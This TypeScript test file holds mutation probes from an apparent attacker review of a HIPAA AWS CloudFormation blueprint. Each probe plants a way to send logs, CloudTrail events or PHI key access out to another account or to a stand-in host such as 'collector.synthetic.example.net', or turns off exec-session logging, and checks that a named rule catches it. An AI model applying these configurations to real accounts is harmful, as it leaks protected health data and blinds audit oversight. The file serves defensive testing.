/**
 * Probes from the attacker review of 2026-12-04 (check-template in assembly mode passed each, exit 0): the account's
 * logs and events sent out by a subscription filter, an account subscription policy or an event bus policy; ECS Exec
 * on with its logging off; the access-audit volume check counting against a threshold and window of its own; the PHI
 * key made multi-Region and replicated; the trail's PHI data-event selector naming another partition.
 */
import { idsOf, Json, one, Probe, Templates } from './probe';

const OTHER_ACCOUNT = '999999999999';

/** The environment variables of the access-audit volume check function (the audit stack). */
const volumeCheck = (t: Templates): Json =>
  one(t, 'audit', 'AWS::Lambda::Function', (r) => r.Properties?.Environment?.Variables?.ATHENA_WORKGROUP)[1].Properties
    .Environment.Variables;

export const PROBES: readonly Probe[] = [
  {
    name: "U6 the trail's log group streamed to another account's Logs destination by a subscription filter",
    safeguards: ['U6', 'E1'],
    mutate: (t) => {
      const [group] = one(t, 'audit', 'AWS::Logs::LogGroup', (_r, id) => id.startsWith('TrailLogGroup'));
      t.audit!.Resources.SyntheticStreamOut = {
        Type: 'AWS::Logs::SubscriptionFilter',
        Properties: {
          LogGroupName: { Ref: group },
          FilterPattern: '',
          DestinationArn: `arn:aws:logs:us-east-1:${OTHER_ACCOUNT}:destination:synthetic-collector`,
        },
      };
    },
    caughtBy: /LogsAndEventsStayInAccount\[DestinationArn::another-account\]/,
  },
  {
    name: "U6 every log group of the account streamed to another account's Firehose by an account subscription policy",
    safeguards: ['U6', 'E1'],
    mutate: (t) =>
      (t.detection!.Resources.SyntheticAccountStream = {
        Type: 'AWS::Logs::AccountPolicy',
        Properties: {
          PolicyName: 'synthetic-all-logs',
          PolicyType: 'SUBSCRIPTION_FILTER_POLICY',
          Scope: 'ALL',
          PolicyDocument: JSON.stringify({
            DestinationArn: `arn:aws:firehose:us-east-1:${OTHER_ACCOUNT}:deliverystream/synthetic`,
            FilterPattern: '',
            Distribution: 'Random',
          }),
        },
      }),
    caughtBy: /LogsAndEventsStayInAccount\[DestinationArn::another-account\]/,
  },
  {
    name: 'U6 another account allowed to put rules and targets on the default event bus (every CloudTrail call to it)',
    safeguards: ['U6', 'A3'],
    mutate: (t) =>
      (t.detection!.Resources.SyntheticBusPolicy = {
        Type: 'AWS::Events::EventBusPolicy',
        Properties: {
          StatementId: 'synthetic-partner',
          Statement: {
            Effect: 'Allow',
            Principal: { AWS: `arn:aws:iam::${OTHER_ACCOUNT}:root` },
            Action: ['events:PutRule', 'events:PutTargets'],
            Resource: { 'Fn::Sub': 'arn:${AWS::Partition}:events:${AWS::Region}:${AWS::AccountId}:rule/*' },
          },
        },
      }),
    caughtBy: /LogsAndEventsStayInAccount\[Principal::outside-account\]/,
  },
  {
    name: 'U3 ECS Exec turned on for the service with the cluster logging exec sessions nowhere (Logging NONE)',
    safeguards: ['U3'],
    mutate: (t) => {
      one(t, 'app', 'AWS::ECS::Service')[1].Properties.EnableExecuteCommand = true;
      const cluster = one(t, 'app', 'AWS::ECS::Cluster')[1];
      cluster.Properties.Configuration.ExecuteCommandConfiguration = { Logging: 'NONE' };
    },
    caughtBy: /EcsExecLogged\[Logging::NONE\]/,
  },
  {
    name: 'U5 the access-audit volume check counting against a threshold of two billion events an hour',
    safeguards: ['U5', 'D1'],
    mutate: (t) => (volumeCheck(t).THRESHOLD = '2000000000'),
    caughtBy: /AccessAuditChannel\[VolumeCheck::threshold-not-configured\]/,
  },
  {
    name: 'U5 the access-audit volume check counting five minutes of each hour',
    safeguards: ['U5', 'D1'],
    mutate: (t) => (volumeCheck(t).WINDOW_MINUTES = '5'),
    caughtBy: /AccessAuditChannel\[VolumeCheck::window-not-hourly\]/,
  },
  {
    name: 'E1 the PHI key made multi-Region (ReplicateKey then copies it anywhere under a policy no template holds)',
    safeguards: ['E1'],
    mutate: (t) =>
      (one(
        t,
        'keys',
        'AWS::KMS::Key',
        (r) => r.Metadata?.['HipaaBlueprint::KeyDomain'] === 'phi',
      )[1].Properties.MultiRegion = true),
    caughtBy: /KmsKeySafeguards\[MultiRegion::true\]/,
  },
  {
    name: 'E1 a replica of a multi-Region key in the replica stack, its policy granting decrypt to another account',
    safeguards: ['E1'],
    mutate: (t) =>
      (t.phiReplica!.Resources.SyntheticReplicaKey = {
        Type: 'AWS::KMS::ReplicaKey',
        DeletionPolicy: 'Retain',
        UpdateReplacePolicy: 'Retain',
        Properties: {
          PrimaryKeyArn: 'arn:aws:kms:us-east-1:222222222222:key/mrk-00000000000000000000000000000000',
          PendingWindowInDays: 30,
          KeyPolicy: {
            Version: '2012-10-17',
            Statement: [
              {
                Effect: 'Allow',
                Principal: { AWS: `arn:aws:iam::${OTHER_ACCOUNT}:root` },
                Action: 'kms:Decrypt',
                Resource: '*',
                Condition: { StringEquals: { 'kms:ViaService': 's3.us-west-2.amazonaws.com' } },
              },
            ],
          },
        },
      }),
    caughtBy: /KmsKeySafeguards\[ReplicaKey::multi-Region\]/,
  },
  {
    name: "U1 the trail's PHI data-event selector naming the PHI buckets in another partition (aws-us-gov)",
    safeguards: ['U1'],
    mutate: (t) => {
      const selector = one(t, 'audit', 'AWS::CloudTrail::Trail')[1].Properties.AdvancedEventSelectors.find(
        (s: Json) => s.Name === 'PhiObjectReadsAndWrites',
      );
      const arn = selector.FieldSelectors.find((f: Json) => f.Field === 'resources.ARN');
      arn.StartsWith = JSON.parse(
        JSON.stringify(arn.StartsWith).replace(/\{"Ref":"AWS::Partition"\}/g, '"aws-us-gov"'),
      );
    },
    caughtBy: /TrailCoversPhiBuckets\[DataEvents::hipaa-prod-phi-data-\d+-us-east-1-(none|read-only|write-only)\]/,
  },
  {
    name: "U6 the trail's log group subscribed to a new Firehose stream of the account that posts to an HTTP endpoint",
    safeguards: ['U6', 'E1'],
    mutate: (t) => {
      const audit = t.audit!.Resources;
      const [group] = one(t, 'audit', 'AWS::Logs::LogGroup', (_r, id) => id.startsWith('TrailLogGroup'));
      const role = { 'Fn::Sub': 'arn:${AWS::Partition}:iam::${AWS::AccountId}:role/synthetic' };
      audit.SyntheticOnwardStream = {
        Type: 'AWS::KinesisFirehose::DeliveryStream',
        Properties: {
          DeliveryStreamType: 'DirectPut',
          HttpEndpointDestinationConfiguration: {
            EndpointConfiguration: { Url: 'https://collector.synthetic.example.net/ingest' },
            RequestConfiguration: { ContentEncoding: 'NONE' },
            S3BackupMode: 'FailedDataOnly',
            RoleARN: role,
            S3Configuration: {
              BucketARN: { 'Fn::GetAtt': [one(t, 'audit', 'AWS::S3::Bucket')[0], 'Arn'] },
              RoleARN: role,
            },
          },
        },
      };
      audit.SyntheticOnwardFilter = {
        Type: 'AWS::Logs::SubscriptionFilter',
        Properties: {
          LogGroupName: { Ref: group },
          FilterPattern: '',
          DestinationArn: { 'Fn::GetAtt': ['SyntheticOnwardStream', 'Arn'] },
          RoleArn: role,
        },
      };
    },
    caughtBy: /FirehoseDeliversToTemplateBucket\[HttpEndpointDestinationConfiguration::not-S3\]/,
  },
  {
    name: 'U6 the findings archive stream sending every finding through a Lambda processor of another account',
    safeguards: ['U6', 'D2'],
    mutate: (t) =>
      one(t, 'audit', 'AWS::KinesisFirehose::DeliveryStream', (_r, id) =>
        id.startsWith('FindingsArchiveStream'),
      )[1].Properties.ExtendedS3DestinationConfiguration.ProcessingConfiguration.Processors.push({
        Type: 'Lambda',
        Parameters: [
          {
            ParameterName: 'LambdaArn',
            ParameterValue: `arn:aws:lambda:us-east-1:${OTHER_ACCOUNT}:function:synthetic`,
          },
        ],
      }),
    caughtBy: /FirehoseDeliversToTemplateBucket\[ProcessingConfiguration::lambda\]/,
  },
  // The second round of the same review (after the fixes above).
  {
    name: 'U6 CloudTrail API calls sent to an HTTPS endpoint through an API destination named by GetAtt',
    safeguards: ['U6', 'E1'],
    mutate: (t) => {
      const audit = t.audit!.Resources;
      audit.SyntheticConnection = { Type: 'AWS::Events::Connection', Properties: { AuthorizationType: 'API_KEY' } };
      audit.SyntheticApi = {
        Type: 'AWS::Events::ApiDestination',
        Properties: {
          ConnectionArn: { 'Fn::GetAtt': ['SyntheticConnection', 'Arn'] },
          InvocationEndpoint: 'https://collector.synthetic.example.net/ingest',
          HttpMethod: 'POST',
        },
      };
      audit.SyntheticApiRule = {
        Type: 'AWS::Events::Rule',
        Properties: {
          State: 'ENABLED',
          EventPattern: { 'detail-type': ['AWS API Call via CloudTrail'], source: ['aws.iam', 'aws.kms'] },
          Targets: [{ Id: 'api', Arn: { 'Fn::GetAtt': ['SyntheticApi', 'Arn'] } }],
        },
      };
    },
    caughtBy: /EventTargetsInAccount\[Target::api-destination\]/,
  },
  {
    name: "U6 the trail's log group streamed to another account whose id is hidden in an SSM parameter",
    safeguards: ['U6', 'E1'],
    mutate: (t) => {
      const audit = t.audit!.Resources;
      const [group] = one(t, 'audit', 'AWS::Logs::LogGroup', (_r, id) => id.startsWith('TrailLogGroup'));
      audit.SyntheticAccount = { Type: 'AWS::SSM::Parameter', Properties: { Type: 'String', Value: OTHER_ACCOUNT } };
      audit.SyntheticLaunderedFilter = {
        Type: 'AWS::Logs::SubscriptionFilter',
        Properties: {
          LogGroupName: { Ref: group },
          FilterPattern: '',
          DestinationArn: {
            'Fn::Sub': [
              'arn:aws:logs:us-east-1:${A}:destination:collector',
              { A: { 'Fn::GetAtt': ['SyntheticAccount', 'Value'] } },
            ],
          },
        },
      };
    },
    caughtBy: /LogsAndEventsStayInAccount\[DestinationArn::account-unknown\]/,
  },
  {
    name: "D3 the alert formatter's SNS calls sent to another host (AWS_ENDPOINT_URL_SNS)",
    safeguards: ['D3'],
    mutate: (t) => {
      for (const id of idsOf(t, 'alerting', 'AWS::Lambda::Function'))
        t.alerting!.Resources[id]!.Properties.Environment.Variables.AWS_ENDPOINT_URL_SNS =
          'https://sns.synthetic.example.net';
    },
    caughtBy: /AssemblyDeploysAsChecked\[[A-Za-z0-9]+::code-loading-environment\]/,
  },
  {
    name: 'U5 the access-audit volume check counting a decoy Glue database of the template',
    safeguards: ['U5', 'D1'],
    mutate: (t) => {
      t.audit!.Resources.SyntheticDecoyDatabase = {
        Type: 'AWS::Glue::Database',
        Properties: { CatalogId: '222222222222', DatabaseInput: { Name: 'hipaa_prod_access_audit_decoy' } },
      };
      volumeCheck(t).GLUE_DATABASE = 'hipaa_prod_access_audit_decoy';
    },
    caughtBy: /AccessAuditChannel\[VolumeCheck::database-outside-assembly\]/,
  },
  {
    name: 'U6 CloudTrail API calls sent to an in-account topic with an https subscription outside',
    safeguards: ['U6', 'D3'],
    mutate: (t) => {
      const audit = t.audit!.Resources;
      audit.SyntheticTopic = { Type: 'AWS::SNS::Topic', Properties: {} };
      audit.SyntheticSubscription = {
        Type: 'AWS::SNS::Subscription',
        Properties: {
          TopicArn: { Ref: 'SyntheticTopic' },
          Protocol: 'https',
          Endpoint: 'https://collector.synthetic.example.net/sns',
        },
      };
      audit.SyntheticTopicRule = {
        Type: 'AWS::Events::Rule',
        Properties: {
          State: 'ENABLED',
          EventPattern: { 'detail-type': ['AWS API Call via CloudTrail'], source: ['aws.iam', 'aws.kms'] },
          Targets: [{ Id: 'topic', Arn: { Ref: 'SyntheticTopic' } }],
        },
      };
    },
    caughtBy: /AlarmsReachSubscribers\[SyntheticSubscription::subscriber-not-in-config\]/,
  },
];
